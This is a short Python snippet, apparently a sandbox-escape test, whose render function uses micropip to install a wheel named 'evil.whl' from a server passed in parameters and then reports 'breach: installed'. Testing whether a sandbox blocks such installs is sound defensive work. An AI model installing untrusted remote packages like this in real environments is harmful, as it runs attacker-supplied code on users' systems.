# Install a package.
# holds: no request
# browser: capability
# wasi: capability
def render(context):
    import micropip

    micropip.install(context["params"]["server"] + "/evil.whl")
    return {"text": "breach: installed"}
